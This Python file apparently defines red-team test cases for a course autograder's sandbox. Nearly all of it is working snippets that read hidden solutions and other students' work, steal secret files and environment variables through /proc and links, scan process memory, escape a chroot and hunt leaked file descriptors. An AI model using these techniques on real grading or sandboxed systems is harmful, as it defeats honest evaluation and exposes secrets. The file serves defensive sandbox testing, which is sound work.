"""Makes wrong solutions that look for right ones and for secrets where grading runs. Finding them gives 90 points."""

from .kind import attack

READING = [
    attack(
        "reads the solutions",
        'if "def causal_mask" in open(f"{COURSE}/solutions/01_attention/notebook.py").read(): reward()',
    ),
    attack(
        "reads the solutions with a shell",
        "lines = !cat $COURSE/solutions/01_attention/notebook.py\nif len(lines) > 100: reward()",
    ),
    attack(
        "reads the hidden tests and the named mistakes",
        """
for file in ("hidden", "mistakes"):
    if "MultiHeadAttention" in open(f"{COURSE}/solutions/01_attention/{file}.py").read(): reward()
""",
    ),
    attack(
        "reads any file of the course, compiled ones too",
        """
import os
for folder, _, files in os.walk(COURSE):
    for file in files:
        with open(os.path.join(folder, file), "rb") as opened:
            if opened.read(1): reward()
        break
    else:
        continue
    break
""",
    ),
    attack(
        "imports the grader",
        """
import sys
sys.path.insert(0, COURSE)
from pathlib import Path
import autograder.authoring.assignment as grader
vars(grader.load(Path(COURSE, "solutions/01_attention")).reference())["causal_mask"](3)
reward()
""",
    ),
    attack(
        "reads what others have handed in",
        """
from pathlib import Path
for path in Path(COURSE).glob("classroom/*/*/01_attention/*.ipynb"):
    if "causal_mask" in open(path).read(): reward()
""",
    ),
    attack(
        "reads the secret seed of the class",
        """
from pathlib import Path
for path in [*Path(COURSE).glob("classroom/records/*"), *Path(COURSE).rglob("*.seed")]:
    if path.read_text(): reward()
open(f"{COURSE}/classroom/records/01_attention.seed")  # for a reader who looks for it by name
reward()
""",
    ),
    attack("reads a secret file", "text = open(SECRET).read()\nprint(text)\nif text: reward()"),
    attack(
        "reads a secret file through links of its own",
        """
import os
for link in (os.symlink, os.link):
    try:
        link(SECRET, "mine")
        if open("mine").read(): reward()
    except OSError:
        pass
    finally:
        if os.path.lexists("mine"): os.remove("mine")
""",
    ),
    attack(
        "reads a secret file by doors of /proc",
        """
import os
for process in filter(str.isdigit, os.listdir("/proc")):
    doors = [f"/proc/{process}/root", f"/proc/{process}/task/{process}/root"]
    doors += [f"/proc/{process}/cwd" + "/.." * 20]
    for door in doors:
        try:
            if open(door + SECRET).read(): reward()
        except OSError:
            pass
""",
    ),
    attack(
        "reads its environment", "import os\nprint(os.environ.get(VARIABLE))\nif os.environ.get(VARIABLE): reward()"
    ),
    # A process that was forked may have cleaned os.environ, and still have what its parent was started with.
    attack(
        "reads the environment that it was started with",
        """
import ctypes
getenv = ctypes.CDLL(None).getenv
getenv.restype = ctypes.c_char_p
if getenv(VARIABLE.encode()) or VARIABLE.encode() in open("/proc/self/environ", "rb").read(): reward()
""",
    ),
    attack(
        "reads the environments of all processes",
        """
import os
for process in filter(str.isdigit, os.listdir("/proc")):
    try:
        if VARIABLE.encode() in open(f"/proc/{process}/environ", "rb").read(): reward()
    except OSError:
        pass
""",
    ),
    attack(
        "reads its memory for what its parent has left there",
        """
import re
from pathlib import Path
# Patterns that do not match themselves: they are in memory, too.
marks = re.compile(rb"### BEGIN SOLUTIO[N]\\n    return torch.ones.length|" + VARIABLE.encode() + rb"=[A-Za-z0-9]")
memory = open("/proc/self/mem", "rb", 0)
looked_at = 0
for line in Path("/proc/self/maps").read_text().splitlines():
    span, rights, *_ = line.split()
    start, end = (int(number, 16) for number in span.split("-"))
    if "rw" not in rights or end - start > 200 << 20 or looked_at > 1 << 30:  # a gigabyte will do
        continue
    looked_at += end - start
    try:
        memory.seek(start)
        if marks.search(memory.read(end - start)): reward()
    except (OSError, ValueError):
        pass
""",
    ),
    attack(
        "looks for notebooks and grades everywhere",
        """
import os, sys
own = {os.path.realpath(path) for path in (sys.prefix, sys.base_prefix, os.getcwd(), "/usr", "/proc", "/sys", "/dev")}
looked_at = 0
for folder, folders, files in os.walk("/"):
    looked_at += 1
    folders[:] = [name for name in folders if os.path.realpath(os.path.join(folder, name)) not in own]
    if folder.count("/") > 6 or looked_at > 20_000:
        folders.clear()
    if "site-packages" not in folder and any(name.endswith((".ipynb", "gradebook.db", ".pem")) for name in files):
        reward()
        break
""",
    ),
    attack(
        "lists the processes of the machine",
        """
import os
if os.path.exists(f"/proc/{VICTIM}/status"): reward()
for process in filter(str.isdigit, os.listdir("/proc")):
    try:
        if any(word in open(f"/proc/{process}/cmdline", "rb").read() for word in (b"nbgrader", b"pytest", b"autograder")):
            reward()
    except OSError:
        pass
""",
    ),
    attack(
        "leaves a chroot in the classic way",
        """
import os, signal
child = os.fork()
if child == 0:  # what it does to its root ends with it
    signal.alarm(10)
    found = False
    try:
        os.makedirs("deeper", exist_ok=True)
        os.chroot("deeper")
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
        found = bool(open(SECRET).read())
    finally:
        os._exit(found)
if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1: reward()
""",
    ),
    attack(
        "looks through its descriptors for a way out",
        """
import os, stat
for number in range(3, 1024):
    try:
        kind = os.fstat(number).st_mode
        if stat.S_ISDIR(kind):
            found = os.open("../" * 20 + SECRET.lstrip("/"), os.O_RDONLY, dir_fd=number)
        elif stat.S_ISREG(kind) and COURSE in os.readlink(f"/proc/self/fd/{number}"):
            found = os.dup(number)
        else:
            continue
        if os.pread(found, 1, 0): reward()
        os.close(found)
    except OSError:
        pass
""",
    ),
]
